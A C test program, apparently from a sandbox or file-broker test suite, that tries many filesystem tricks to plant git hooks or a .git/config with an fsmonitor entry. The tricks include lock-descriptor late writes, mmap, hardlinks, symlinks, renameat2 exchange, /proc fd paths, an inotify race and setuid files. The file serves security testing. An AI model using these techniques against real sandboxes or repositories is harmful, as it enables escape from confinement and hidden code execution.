/* Plants something that runs outside later, by calls that a name check may not see. argv[1]: the
 * way. */
#include "attack.h"
#include <sys/inotify.h>

#define HOOK "#!/bin/sh\ntouch /tmp/owned\n"
#define EVIL "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ./evil\n"

static const char *hook, *config;

static char *proc_fd(int fd)
{
	char *p = NULL;

	if (asprintf(&p, "/proc/self/fd/%d", fd) < 0)
		abort();
	return p;
}

static void tmpfile_hook(void)
{
	int fd = open(in("P", ".git/hooks"), O_TMPFILE | O_RDWR, 0755);

	if (fd < 0)
		fd = open(var("P"), O_TMPFILE | O_RDWR, 0755);
	(void)!write(fd, HOOK, strlen(HOOK));
	say("linkat", linkat(AT_FDCWD, proc_fd(fd), AT_FDCWD, hook, AT_SYMLINK_FOLLOW));
}

/* Git's own dance, but the lock's descriptor stays open and writes after the rename was judged. */
static void kept_lock(void)
{
	int fd = open(in("P", ".git/config.lock"), O_RDWR | O_CREAT | O_EXCL, 0644);
	static const char fine[] = "[core]\n\trepositoryformatversion = 0\n";

	(void)!write(fd, fine, sizeof fine - 1);
	say("rename", rename(in("P", ".git/config.lock"), config));
	say("late write", pwrite(fd, EVIL, strlen(EVIL), 0));
}

/* The same by a shared mapping and by a second name of the lock. */
static void kept_mapping(void)
{
	int fd = open(in("P", ".git/config.lock"), O_RDWR | O_CREAT | O_EXCL, 0644);
	static const char fine[] = "[core]\n\trepositoryformatversion = 0\n";
	char pad[128];

	memset(pad, '\n', sizeof pad);
	memcpy(pad, fine, sizeof fine - 1);
	(void)!write(fd, pad, sizeof pad);
	char *p = mmap(NULL, sizeof pad, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);

	close(fd);
	say("rename", rename(in("P", ".git/config.lock"), config));
	if (p != MAP_FAILED)
		memcpy(p, EVIL, strlen(EVIL));
}

static void kept_name(void)
{
	put(in("P", "second"), "[core]\n\trepositoryformatversion = 0\n");
	say("link", link(in("P", "second"), in("P", ".git/config.lock")));
	say("rename", rename(in("P", ".git/config.lock"), config));
	put(in("P", "second"), EVIL);
}

/* A descriptor from before .git was .git. */
static void kept_folder(void)
{
	mkdir(in("P", "git2"), 0755);
	mkdir(in("P", "git2/hooks"), 0755);
	put(in("P", "git2/HEAD"), "ref: refs/heads/main\n");
	int dir = open(in("P", "git2/hooks"), O_PATH | O_DIRECTORY);

	mkdir(in("P", "nested"), 0755);
	say("rename", rename(in("P", "git2"), in("P", "nested/.git")));
	int fd = openat(dir, "pre-commit", O_WRONLY | O_CREAT, 0755);

	say("openat", fd);
	(void)!write(fd, HOOK, strlen(HOOK));
}

static void exchange_git(void)
{
	mkdir(in("P", "g"), 0755);
	mkdir(in("P", "g/hooks"), 0755);
	put(in("P", "g/hooks/pre-commit"), HOOK);
	put(in("P", "g/config"), EVIL);
	say("exchange",
	    syscall(SYS_renameat2, AT_FDCWD, in("P", "g"), AT_FDCWD, in("P", ".git"), 2));
}

static void exchange_config(void)
{
	put(in("P", "c"), EVIL);
	say("exchange", syscall(SYS_renameat2, AT_FDCWD, in("P", "c"), AT_FDCWD, config, 2));
}

static void dirfd_hook(void)
{
	int dir = open(in("P", ".git/hooks"), O_PATH | O_DIRECTORY);
	int fd = openat(dir, "pre-commit", O_WRONLY | O_CREAT, 0755);

	(void)!write(fd, HOOK, strlen(HOOK));
}

static void fchdir_hook(void)
{
	(void)!chdir(in("P", ".git/hooks"));
	put("pre-commit", HOOK);
	put("../config", EVIL);
}

static void dots_hook(void)
{
	put(in("P", ".git//./hooks/../hooks/../../build/../.git/hooks/pre-commit"), HOOK);
}

static void hardlink_hook(void)
{
	put(in("P", "h"), HOOK);
	chmod(in("P", "h"), 0755);
	say("link", link(in("P", "h"), hook));
}

static void rename_hook(void)
{
	put(in("P", "h"), HOOK);
	chmod(in("P", "h"), 0755);
	say("rename", rename(in("P", "h"), hook));
}

static void symlink_hook(void)
{
	put(in("P", "h"), HOOK);
	chmod(in("P", "h"), 0755);
	say("symlink", symlink("../../h", hook));
}

static void sample_hook(void)
{
	/* *.sample is free; taking the suffix off must not be. */
	put(in("P", ".git/hooks/pre-commit.sample"), HOOK);
	chmod(in("P", ".git/hooks/pre-commit.sample"), 0755);
	say("rename", rename(in("P", ".git/hooks/pre-commit.sample"), hook));
}

static void mknod_hook(void)
{
	say("mknod", mknod(hook, S_IFREG | 0755, 0));
	int fd = open(hook, O_WRONLY);

	(void)!write(fd, HOOK, strlen(HOOK));
}

static void moved_hooks(void)
{
	mkdir(in("P", "hh"), 0755);
	put(in("P", "hh/pre-commit"), HOOK);
	say("rmdir", rename(in("P", ".git/hooks"), in("P", "old-hooks")));
	say("rename", rename(in("P", "hh"), in("P", ".git/hooks")));
}

static void linked_hooks(void)
{
	mkdir(in("P", "hh"), 0755);
	put(in("P", "hh/pre-commit"), HOOK);
	say("rename", rename(in("P", ".git/hooks"), in("P", "old-hooks")));
	say("symlink", symlink("../hh", in("P", ".git/hooks")));
}

static void linked_git(void)
{
	mkdir(in("P", "g"), 0755);
	put(in("P", "g/config"), EVIL);
	say("rename", rename(in("P", ".git"), in("P", "old-git")));
	say("symlink", symlink("g", in("P", ".git")));
}

static void parent_rename(void)
{
	mkdir(in("P", "sub"), 0755);
	mkdir(in("P", "sub/git"), 0755);
	mkdir(in("P", "sub/git/hooks"), 0755);
	put(in("P", "sub/git/hooks/pre-commit"), HOOK);
	put(in("P", "sub/git/config"), EVIL);
	say("rename", rename(in("P", "sub/git"), in("P", "sub/.git")));
}

static void mapped_config(void)
{
	int fd = open(config, O_RDWR);
	char *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);

	if (p != MAP_FAILED)
		memcpy(p, "[core]\nx=y", 10);
	say("mmap", p == MAP_FAILED ? -1 : 0);
}

static void truncate_config(void)
{
	say("truncate", truncate(config, 3));
}

static void opath_config(void)
{
	int fd = open(config, O_PATH);

	put(proc_fd(fd), EVIL);
	put(at("/proc/self/root", config + 1), EVIL);
	put(at("/proc/self/cwd", ".git/config"), EVIL);
}

/* The broker installs a copy of its own under another name first: that name is opened, or linked,
 * the moment it appears, and written to once it has become the configuration. */
static void *catch_copy(void *arg)
{
	int watch = inotify_init1(0), caught[16] = {0};
	char buf[4096] __attribute__((aligned(8)));

	inotify_add_watch(watch, in("P", ".git"), IN_CREATE | IN_MOVED_TO);
	for (unsigned n = 0;;) {
		ssize_t len = read(watch, buf, sizeof buf);

		for (char *p = buf; len > 0 && p < buf + len;) {
			struct inotify_event *e = (struct inotify_event *)p;
			const char *path = at(in("P", ".git"), e->len ? e->name : ".");

			if (e->len && strcmp(e->name, "config.lock") != 0) {
				int fd = open(path, O_WRONLY);

				if (fd >= 0) {
					if (caught[n % 16] > 0)
						close(caught[n % 16]);
					caught[n++ % 16] = fd;
				}
				link(path, in("P", "second"));
			}
			p += sizeof *e + e->len;
		}
		for (int i = 0; i < 16; i++)
			if (caught[i] > 0)
				(void)!pwrite(caught[i], EVIL, strlen(EVIL), 0);
		put(in("P", "second"), EVIL);
		unlink(in("P", "second"));
	}
	return arg;
}

static void caught_copy(void)
{
	(void)thread(catch_copy, NULL);
	usleep(50000);
	while (racing()) {
		put(in("P", ".git/config.lock"), "[core]\n\trepositoryformatversion = 0\n");
		rename(in("P", ".git/config.lock"), config);
	}
	usleep(200000);
}

/* The configuration is taken away first, which plants nothing; then it is made anew. */
static void absent(const char *how)
{
	say("unlink", unlink(config) < 0 ? rename(config, in("P", "old")) : 0);
	put(in("P", "evil"), EVIL);
	if (strcmp(how, "absent-open") == 0)
		put(config, EVIL);
	else if (strcmp(how, "absent-link") == 0)
		say("link", link(in("P", "evil"), config));
	else if (strcmp(how, "absent-symlink") == 0)
		say("symlink", symlink("../evil", config));
	else if (strcmp(how, "absent-back") == 0) {
		put(in("P", "old"), EVIL);
		say("rename", rename(in("P", "old"), config));
	}
}

/* What this run made is its own - but not the hooks in it. */
static void nested_hook(void)
{
	mkdir(in("P", "n"), 0755);
	mkdir(in("P", "n/.git"), 0755);
	mkdir(in("P", "n/.git/hooks"), 0755);
	put(in("P", "n/.git/hooks/pre-commit"), HOOK);
	put(in("P", "n/.git/config"), EVIL);
	rename(in("P", "n"), in("P", "m"));
}

static void suid(void)
{
	put(in("P", "s"), "x");
	say("chmod", chmod(in("P", "s"), 04755));
}

static void suid_create(void)
{
	say("open", open(in("P", "s"), O_CREAT | O_WRONLY, 06755));
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		void (*way)(void);
	} ways[] = {
		{"tmpfile", tmpfile_hook},
		{"kept-lock", kept_lock},
		{"kept-mapping", kept_mapping},
		{"kept-name", kept_name},
		{"kept-folder", kept_folder},
		{"exchange-git", exchange_git},
		{"exchange", exchange_config},
		{"dirfd", dirfd_hook},
		{"chdir", fchdir_hook},
		{"dots", dots_hook},
		{"hardlink", hardlink_hook},
		{"rename", rename_hook},
		{"symlink", symlink_hook},
		{"sample", sample_hook},
		{"mknod", mknod_hook},
		{"moved-hooks", moved_hooks},
		{"linked-hooks", linked_hooks},
		{"linked-git", linked_git},
		{"parent-rename", parent_rename},
		{"mapped-config", mapped_config},
		{"truncate", truncate_config},
		{"opath", opath_config},
		{"suid", suid},
		{"caught-copy", caught_copy},
		{"nested-hook", nested_hook},
		{"suid-create", suid_create},
	};

	attack_begin();
	hook = in("P", ".git/hooks/pre-commit");
	config = in("P", ".git/config");
	if (argc > 1 && strncmp(argv[1], "absent-", 7) == 0)
		absent(argv[1]);
	for (size_t i = 0; argc > 1 && i < sizeof ways / sizeof ways[0]; i++)
		if (strcmp(ways[i].name, argv[1]) == 0)
			ways[i].way();
	return 0;
}
